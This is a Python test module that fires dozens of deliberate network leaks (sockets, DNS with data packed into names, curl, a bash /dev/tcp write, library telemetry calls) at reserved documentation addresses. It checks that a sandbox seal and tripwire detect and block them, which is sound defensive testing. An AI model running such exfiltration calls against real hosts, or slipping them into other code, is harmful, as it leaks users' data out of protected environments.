"""Ways out, fired on purpose: each is a call that would send something if it could. Run in a child by test_leaks.py.

    python -m tests.leaks MODE GROUP     one line of JSON per leak on stdout

MODE: "sealed" (in the seal, the switches taken away), "switched" (in the seal, the switches as they are: what they stop
alone) or "control" (unsealed, in a namespace that has a way out, to show that the detectors see something).
Addresses and names are reserved for documentation, except those that libraries bring themselves.
"""

import contextlib
import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

OUT4, OUT6, NAME = "192.0.2.1", "2001:db8::1", "phone-home.example"
PROXY = "http://192.0.2.7:3128"
HUB = "huggingface_hub"
REAL_SLEEP = time.sleep


@dataclass(frozen=True, slots=True)
class Leak:
    """One way out. `seen`: the tripwire must note it, as made by `package`. `counted`: the kernel must count it.

    `quiet`: the switches alone stop it. `row`: its line in the list of known paths, 0 for a general one.
    """

    name: str
    fire: Callable[[], Any]
    seen: bool = True
    counted: bool = False
    package: str = ""
    quiet: bool = False
    row: int = 0
    needs: str = ""
    """A program that must be there."""


def tcp4() -> None:
    socket.create_connection((OUT4, 443), timeout=2)


def tcp6() -> None:
    with socket.socket(socket.AF_INET6) as s:
        s.connect((OUT6, 443))


def udp(family: int, address: str) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"rows", (address, 53))


def udp_message() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([b"rows"], [], 0, (OUT4, 53))


def udp_connect() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((OUT4, 80))


def urllib_get(url: str) -> None:
    import urllib.request

    urllib.request.urlopen(url, timeout=2)


def urllib_proxy() -> None:
    import urllib.request

    os.environ["http_proxy"] = PROXY
    try:
        urllib.request.build_opener(urllib.request.ProxyHandler()).open(f"http://{NAME}/", timeout=2)
    finally:
        del os.environ["http_proxy"]


def http_client() -> None:
    import http.client

    http.client.HTTPSConnection(NAME, timeout=2).request("POST", "/", b"rows")


def mail() -> None:
    import smtplib

    smtplib.SMTP(OUT4, timeout=2)


def ftp() -> None:
    import ftplib

    ftplib.FTP(OUT4, timeout=2)


def syslog() -> None:
    import logging.handlers

    handler = logging.handlers.SysLogHandler((OUT4, 514))
    handler.emit(logging.makeLogRecord({"msg": "rows"}))


def stream() -> None:
    import asyncio

    asyncio.run(asyncio.wait_for(asyncio.open_connection(OUT4, 443), 2))


def in_thread() -> None:
    caught: list[OSError] = []

    def work() -> None:
        try:
            tcp4()
        except OSError as problem:
            caught.append(problem)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    raise caught[0]


def forked() -> None:
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            tcp4()
        os._exit(7)
    os.waitpid(child, 0)
    raise OSError("the child ended")


def libc_address() -> Any:
    return ctypes.create_string_buffer(
        socket.AF_INET.to_bytes(2, sys.byteorder) + (443).to_bytes(2, "big") + socket.inet_aton(OUT4), 16
    )


def libc_connect() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    refuse(libc.connect(descriptor, libc_address(), 16))


def libc_sendto() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    refuse(libc.sendto(descriptor, b"rows", 4, 0, libc_address(), 16))


def libc_socket(family: int, kind: int) -> None:
    refuse(ctypes.CDLL(None, use_errno=True).socket(family, kind, 0))


def refuse(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def program(*command: str) -> None:
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    if done.returncode:
        raise OSError(done.returncode, f"{command[0]}: {done.stderr.decode(errors='replace').strip()[-120:]}")


PYTHON = f"import socket; socket.create_connection(('{OUT4}', 443), 2)"
RAW = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

GENERAL = (
    Leak("TCP", tcp4, counted=True),
    Leak("TCP over IPv6", tcp6, counted=True),
    Leak("UDP datagram", lambda: udp(socket.AF_INET, OUT4), counted=True),
    Leak("UDP datagram over IPv6", lambda: udp(socket.AF_INET6, OUT6), counted=True),
    Leak("UDP message", udp_message, counted=True),
    Leak("UDP connect, as get_ip does", udp_connect, counted=True, row=2),
    Leak("UDP multicast", lambda: udp(socket.AF_INET, "224.0.0.251"), counted=True),
    Leak("name look-up", lambda: socket.getaddrinfo(NAME, 443)),
    Leak("old name look-up", lambda: socket.gethostbyname(NAME)),
    Leak("reverse look-up", lambda: socket.gethostbyaddr(NAME)),
    Leak("data in a name", lambda: socket.getaddrinfo("726f7773." * 5 + NAME, None)),
    Leak("urllib", lambda: urllib_get(f"https://{NAME}/")),
    Leak("urllib to an address", lambda: urllib_get(f"http://{OUT4}/"), counted=True),
    Leak("urllib through a proxy", urllib_proxy, counted=True, row=29),
    Leak("http.client", http_client),
    Leak("mail", mail, counted=True),
    Leak("ftp", ftp, counted=True),
    Leak("syslog", syslog, counted=True),
    Leak("asyncio", stream, counted=True),
    Leak("thread", in_thread, counted=True),
    Leak("forked child", forked, counted=True),
    Leak("raw socket", lambda: socket.socket(*RAW)),
    Leak("packet socket", lambda: socket.socket(17, socket.SOCK_RAW)),
    Leak("socket to the hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM)),
    Leak("bluetooth socket", lambda: socket.socket(31, socket.SOCK_SEQPACKET)),
    Leak("ctypes connect", libc_connect, seen=False, counted=True),
    Leak("ctypes sendto", libc_sendto, seen=False, counted=True),
    Leak("ctypes socket to the hypervisor", lambda: libc_socket(40, socket.SOCK_STREAM), seen=False),
    Leak("child: python", lambda: program(sys.executable, "-c", PYTHON), seen=False, counted=True),
    Leak("child: curl", lambda: program("curl", "-sS", "-m", "3", f"http://{OUT4}/"), seen=False, counted=True,
         needs="curl"),
    Leak("child: bash", lambda: program("bash", "-c", f"echo rows > /dev/tcp/{OUT4}/443"), seen=False, counted=True,
         needs="bash"),
    Leak("child: resolver", lambda: program("getent", "hosts", NAME), seen=False, needs="getent"),
    Leak("child: ping", lambda: program("ping", "-c", "1", "-W", "1", OUT4), seen=False, needs="ping"),
)  # fmt: skip


def hub_telemetry() -> None:
    from huggingface_hub.utils import send_telemetry
    from huggingface_hub.utils._telemetry import _TELEMETRY_QUEUE

    send_telemetry("localinstruct-test")
    for _ in range(100):
        if not _TELEMETRY_QUEUE.unfinished_tasks:
            return
        REAL_SLEEP(0.05)


def hub(call: str, *arguments: str) -> None:
    import huggingface_hub

    getattr(huggingface_hub, call)(*arguments)


def hub_agents() -> None:
    from huggingface_hub.utils import _detect_agent

    _detect_agent._fetch_registry()


def hub_update() -> None:
    from huggingface_hub.cli._cli_utils import check_cli_update

    check_cli_update("huggingface_hub")


def openai_call(**options: Any) -> None:
    import openai

    client = openai.OpenAI(api_key="none", max_retries=0, timeout=3, **options)
    client.chat.completions.create(model="teacher", messages=[{"role": "user", "content": "rows"}])


def openai_variable() -> None:
    os.environ["OPENAI_BASE_URL"] = f"https://{NAME}/v1"
    try:
        openai_call()
    finally:
        del os.environ["OPENAI_BASE_URL"]


def httpx2_proxy() -> None:
    import httpx2

    os.environ["HTTP_PROXY"] = PROXY
    try:
        with httpx2.Client(timeout=2) as client:
            client.get("http://127.0.0.1:8000/v1/models")
    finally:
        del os.environ["HTTP_PROXY"]


def httpx2_get() -> None:
    import httpx2

    httpx2.get(f"https://{NAME}/", timeout=2)


def requests_get(url: str, **options: Any) -> None:
    import requests

    requests.get(url, timeout=2, **options)


LIBRARIES = (
    Leak("hub telemetry", hub_telemetry, package=HUB, quiet=True, row=11),
    Leak("hub agent list", hub_agents, package=HUB, quiet=True, row=12),
    Leak("hub newest version", hub_update, package=HUB, quiet=True, row=13),
    Leak("hub model_info of a private folder", lambda: hub("model_info", "models/private"), package=HUB, quiet=True,
         row=16),
    Leak("hub file list", lambda: hub("list_repo_files", "org/model"), package=HUB, quiet=True, row=4),
    Leak("hub download", lambda: hub("hf_hub_download", "org/model", "config.json"), package=HUB, quiet=True, row=14),
    Leak("hub snapshot", lambda: hub("snapshot_download", "org/model"), package=HUB, quiet=True, row=4),
    Leak("hub file_exists", lambda: hub("file_exists", "org/model", "config.json"), package=HUB, quiet=True, row=17),
    Leak("openai default address", openai_call, package="openai", row=28),
    Leak("openai address from the environment", openai_variable, package="openai", row=28),
    Leak("httpx2 loopback through a proxy", httpx2_proxy, counted=True, package="httpx2", row=29),
    Leak("httpx2", httpx2_get, package="httpx2"),
    Leak("requests", lambda: requests_get(f"https://{NAME}/"), package="requests"),
    Leak("requests through a proxy", lambda: requests_get(f"http://{NAME}/", proxies={"http": PROXY}), counted=True,
         package="requests", row=29),
)  # fmt: skip


def dataset_counter() -> None:
    from datasets.load import increase_load_count

    increase_load_count("json")


def transformers_config() -> None:
    from transformers import AutoConfig

    AutoConfig.from_pretrained("org/model")


def transformers_conversion() -> None:
    from transformers.safetensors_conversion import auto_conversion

    auto_conversion("org/model")


def sentence_card() -> None:
    from sentence_transformers.sentence_transformer.model_card import SentenceTransformerModelCardData

    SentenceTransformerModelCardData().set_base_model("models/private")


def peft_base() -> None:
    from peft.utils.other import check_file_exists_on_hf_hub

    check_file_exists_on_hf_hub("private/base", "config.json")


def tiktoken_encoding() -> None:
    import tiktoken

    tiktoken.get_encoding("o200k_base")


def mistral_tokenizer() -> None:
    from mistral_common.tokens.tokenizers.utils import download_tokenizer_from_hf_hub

    download_tokenizer_from_hf_hub("org/model")


def torch_store() -> None:
    from datetime import timedelta

    from torch.distributed import TCPStore

    TCPStore(OUT4, 29500, is_master=False, timeout=timedelta(seconds=1))


def zmq_send() -> None:
    import zmq

    with zmq.Context() as context, context.socket(zmq.PUSH) as push:
        push.setsockopt(zmq.LINGER, 0)
        push.connect(f"tcp://{OUT4}:5555")
        REAL_SLEEP(0.3)


def vllm_usage() -> None:
    from vllm.usage.usage_lib import UsageMessage, is_usage_stats_enabled

    if is_usage_stats_enabled():
        UsageMessage()._send_to_server({"uuid": "0"})


def vllm_address() -> None:
    from vllm.utils.network_utils import get_ip

    get_ip()


def vllm_kernels() -> None:
    from vllm.utils.flashinfer import has_nvidia_artifactory

    has_nvidia_artifactory()


HEAVY = (
    Leak("datasets counts a local file", dataset_counter, package="datasets", quiet=True, row=15),
    Leak("transformers configuration", transformers_config, package="transformers", quiet=True, row=21),
    Leak("transformers conversion of weights", transformers_conversion, package="transformers", quiet=True, row=20),
    Leak("sentence-transformers model card", sentence_card, package="sentence_transformers", quiet=True, row=16),
    Leak("PEFT asks for the base model", peft_base, package="peft", quiet=True, row=17),
    Leak("tiktoken encoding", tiktoken_encoding, package="tiktoken", row=9),
    Leak("mistral_common tokenizer", mistral_tokenizer, package="mistral_common", quiet=True, row=10),
    Leak("torch store", torch_store, seen=False, counted=True, row=30),
    Leak("zmq", zmq_send, seen=False, counted=True),
    Leak("vLLM usage statistics", vllm_usage, package="vllm", quiet=True, row=1),
    Leak("vLLM own address", vllm_address, package="vllm", quiet=True, counted=True, row=2),
    Leak("vLLM looks for kernels", vllm_kernels, package="vllm", row=3),
)  # fmt: skip

CONTROL = tuple(leak for leak in GENERAL if leak.name in ("UDP datagram", "UDP message", "ctypes sendto"))
GROUPS = {"general": GENERAL, "libraries": LIBRARIES, "heavy": HEAVY, "control": CONTROL}


def add_way_out() -> None:
    """A default route, through loopback for want of anything else: packets for anywhere are sent, and counted."""
    import fcntl
    import struct

    device, siocaddrt, up = ctypes.create_string_buffer(b"lo"), 0x890B, 1
    to_anywhere = struct.pack("H14x", socket.AF_INET)
    entry = struct.pack("@L16s16s16sHhLPhPLLH", 0, to_anywhere, to_anywhere, to_anywhere, up, 0, 0, 0, 0,
                        ctypes.addressof(device), 0, 0, 0)  # fmt: skip
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, siocaddrt, entry)


def attempts() -> list[dict[str, Any]]:
    """What the tripwire noted so far, forked children included."""
    from pathlib import Path

    from localinstruct.seal import tripwire

    noted = tripwire.read(Path(os.environ[tripwire.FILE]))
    return [entry for entry in noted if entry["kind"] == "attempt"]


def measure(leak: Leak) -> dict[str, Any]:
    """Fire one leak; what it raised, what the tripwire and the kernel saw of it, and packets on every interface."""
    from localinstruct.seal import evidence

    before, noted = evidence.snapshot(), len(attempts())
    began, error = time.monotonic(), ""
    try:
        leak.fire()
    except Exception as problem:
        error = f"{type(problem).__name__}: {problem}"[:200]
    after, seen = evidence.snapshot(), attempts()[noted:]
    return {
        "name": leak.name,
        "error": error,
        "seen": [entry["target"] for entry in seen],
        "packages": sorted({name for entry in seen for name in entry["packages"]}),
        "stacks": [entry["stack"] for entry in seen],
        "counted": sum(after["no_route"].values()) - sum(before["no_route"].values()),
        "sent": sum(i["sent_packets"] for i in after["interfaces"].values())
        - sum(i["sent_packets"] for i in before["interfaces"].values()),
        "interfaces": sorted(after["interfaces"]),
        "seconds": round(time.monotonic() - began, 2),
    }


def main(mode: str, group: str) -> None:
    """Seal (or not), take the switches away (or not), fire every leak of the group."""
    from localinstruct import offline, seal
    from localinstruct.seal import kernel, tripwire

    time.sleep = lambda seconds: REAL_SLEEP(min(float(seconds), 0.01))  # libraries wait between attempts
    if mode == "control":
        kernel.own_namespaces()
        add_way_out()
        tripwire.arm()
    else:
        seal.enter()
    if mode == "sealed":
        for name in offline.SWITCHES:
            os.environ.pop(name, None)
    for leak in GROUPS[group]:
        if not leak.needs or shutil.which(leak.needs):
            print(json.dumps(measure(leak)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
    sys.stdout.flush()
    os._exit(0)
